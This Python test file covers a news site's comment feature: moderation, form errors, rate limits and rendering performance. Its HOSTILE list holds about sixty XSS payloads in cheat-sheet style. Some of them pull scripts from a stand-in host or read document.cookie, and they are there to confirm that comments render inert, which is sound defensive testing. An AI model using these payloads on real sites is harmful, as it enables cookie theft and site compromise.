"""Comments: members post, first comments wait, hostile text renders inert,
bad input gets clear errors, floods are 429, long threads stay cheap."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.test import override_settings
from wagtail.models import Site

from herald.reactions import actions
from herald.reactions.models import (
    Comment,
    CommentEvent,
    CommentMode,
    CommentState,
    ReactionSettings,
)
from herald.reactions.rendering import render_comment

pytestmark = pytest.mark.django_db

TOKEN_RE = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')

# OWASP XSS filter-evasion cheat sheet style vectors, written for this test.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    "<a href=\"javascript:alert('x')\">click</a>",
    "[click](javascript:alert(1))",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "**<svg onload=alert(1)>**",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><script>alert(document.domain)</script>',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
]

ALLOWED = {"p": set(), "br": set(), "em": set(), "strong": set(), "a": {"href", "rel"}}


class _Inspector(HTMLParser):
    """Collect every element and attribute a browser would build."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.found.append((tag, attrs))


def assert_inert(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    for tag, attrs in inspector.found:
        assert tag in ALLOWED, (tag, html)
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name, html)
            if name == "href":
                assert (value or "").startswith(("https://", "http://")), html
            if name == "rel":
                assert value == "nofollow ugc noopener", html


def settings_row() -> ReactionSettings:
    return ReactionSettings.for_site(Site.objects.get(is_default_site=True))


def comment_url(article) -> str:  # type: ignore[no-untyped-def]
    return f"/reactions/comment/{article.pk}/"


def token_of(client, article) -> str:  # type: ignore[no-untyped-def]
    html = client.get(article.url).content.decode()
    return TOKEN_RE.search(html).group(1)


def test_there_are_at_least_fifty_hostile_payloads():
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payload_renders_inert(payload):
    assert_inert(render_comment(payload))


def test_hostile_comments_show_as_text_on_the_page(member_client, member, article):
    config = settings_row()
    config.premoderate_first_comment = False
    config.save()
    for payload in HOSTILE[:10]:
        actions.post_comment(article, author=member, text=payload, config=config)
    html = member_client.get(article.url).content.decode()
    thread = html[html.index('id="comments"') :]
    assert "<script>alert(1)</script>" not in thread
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in thread


def test_links_and_emphasis_are_kept_with_rel():
    html = render_comment("See **this** and *that*: https://example.org/a?b=1.")
    assert "<strong>this</strong>" in html and "<em>that</em>" in html
    assert 'href="https://example.org/a?b=1"' in html
    assert 'rel="nofollow ugc noopener"' in html


def test_first_comment_waits_then_is_published_on_approval(
    member_client, member, article
):
    # given a first-time commenter
    token = token_of(member_client, article)
    response = member_client.post(
        comment_url(article), {"text": "A first thought.", "csrfmiddlewaretoken": token}
    )
    assert response.status_code == 303
    comment = Comment.objects.get()
    assert comment.state == CommentState.PENDING
    assert "A first thought." not in member_client.get(article.url).content.decode()
    # when a moderator approves it
    from herald.newsroom.testing import make_staff

    moderator = make_staff("Moderators")
    actions.moderate_comment(
        comment, actor=moderator, to_state=CommentState.PUBLISHED, reason="fine"
    )
    # then it shows, and the history says who and why
    assert "A first thought." in member_client.get(article.url).content.decode()
    events = list(CommentEvent.objects.values_list("to_state", "actor", "reason"))
    assert events[-1] == ("published", moderator.pk, "fine")
    # and a second comment is published at once
    member_client.post(
        comment_url(article), {"text": "Another one.", "csrfmiddlewaretoken": token}
    )
    assert Comment.objects.get(text="Another one.").state == CommentState.PUBLISHED


def test_disallowed_transition_is_refused(member, article):
    config = settings_row()
    comment = actions.post_comment(article, author=member, text="x", config=config)
    actions.moderate_comment(comment, actor=None, to_state=CommentState.DELETED)
    with pytest.raises(actions.CommentRefused):
        actions.moderate_comment(comment, actor=None, to_state=CommentState.PUBLISHED)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "Write something before posting."),
        ("   \n  ", "Write something before posting."),
        ("x" * 3001, "Keep it under 3000 characters"),
        ("binary \x01\x02 data", "control or binary characters"),
        ("nul \x00 byte", "Null characters are not allowed"),
        ("bad \ufffd bytes", "not UTF-8"),
    ],
)
def test_bad_comment_text_gets_a_clear_form_error(
    member_client, article, text, message
):
    token = token_of(member_client, article)
    response = member_client.post(
        comment_url(article), {"text": text, "csrfmiddlewaretoken": token}
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Comment.objects.exists()


def test_wrongly_encoded_bytes_get_a_form_error(member_client, article):
    token = token_of(member_client, article)
    body = b"text=caf%E9+latin1&csrfmiddlewaretoken=" + token.encode()
    response = member_client.post(
        comment_url(article), body, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 400
    assert "not UTF-8" in response.content.decode()


def test_anonymous_reader_cannot_comment_and_sees_no_form(anon_client, article):
    html = anon_client.get(article.url).content.decode()
    assert "Sign in to comment" in html
    assert "csrfmiddlewaretoken" not in html
    response = anon_client.post(comment_url(article), {"text": "hi"})
    assert response.status_code == 403
    assert not Comment.objects.exists()


def test_closed_and_paid_only_settings_refuse_with_a_reason(member, article):
    config = settings_row()
    config.comments = CommentMode.CLOSED
    with pytest.raises(actions.CommentRefused, match="closed"):
        actions.post_comment(article, author=member, text="x", config=config)
    config.comments = CommentMode.PAID
    with pytest.raises(actions.CommentRefused, match="paying members"):
        actions.post_comment(article, author=member, text="x", config=config)
    assert not Comment.objects.exists()


@override_settings(HERALD_REACTIONS_RATES={"react_ip": "30/10m", "comment_ip": "2/10m"})
def test_comment_flood_is_429(member_client, article):
    token = token_of(member_client, article)
    statuses = [
        member_client.post(
            comment_url(article), {"text": f"n{i}", "csrfmiddlewaretoken": token}
        ).status_code
        for i in range(4)
    ]
    assert statuses == [303, 303, 429, 429]


def test_replies_are_one_level_deep(member, other_member, article):
    config = settings_row()
    config.premoderate_first_comment = False
    top = actions.post_comment(article, author=member, text="top", config=config)
    reply = actions.post_comment(
        article, author=other_member, text="reply", config=config, parent=top
    )
    deeper = actions.post_comment(
        article, author=member, text="deeper", config=config, parent=reply
    )
    assert reply.parent_id == top.pk and deeper.parent_id == top.pk


def test_deleting_an_article_removes_its_comments(member, article):
    config = settings_row()
    actions.post_comment(article, author=member, text="x", config=config)
    article.delete()
    assert not Comment.objects.exists()


def test_thousand_comments_render_first_page_within_ten_queries(
    anon_client, member, other_member, article, django_assert_max_num_queries
):
    # given 1,000 published comments, a tenth of them replies
    tops = Comment.objects.bulk_create(
        Comment(
            article=article,
            author=member,
            text=f"c{i}",
            html=f"<p>comment number {i}</p>",
            state=CommentState.PUBLISHED,
        )
        for i in range(900)
    )
    Comment.objects.bulk_create(
        Comment(
            article=article,
            author=other_member,
            parent=tops[i],
            text=f"r{i}",
            html=f"<p>reply number {i}</p>",
            state=CommentState.PUBLISHED,
        )
        for i in range(100)
    )
    anon_client.get(article.url)
    anon_client.get(article.url)  # kept renderings warm
    # when an anonymous reader reads the article
    with django_assert_max_num_queries(10):
        response = anon_client.get(article.url)
    html = response.content.decode()
    # then the newest 20 show with a "show more" link and the full count
    assert "1000 comments" in html
    assert "comment number 899" in html and "comment number 879" not in html
    assert "Show more comments" in html
    with django_assert_max_num_queries(10):
        html = anon_client.get(
            f"{article.url}?comments=oldest&cpage=2"
        ).content.decode()
    assert "comment number 20" in html and "comment number 19<" not in html
    # and the most replied first, still within budget
    with django_assert_max_num_queries(10):
        html = anon_client.get(f"{article.url}?comments=top").content.decode()
    assert "comment number 99<" in html and "comment number 80<" in html
    assert "comment number 899<" not in html and "comment number 100<" not in html
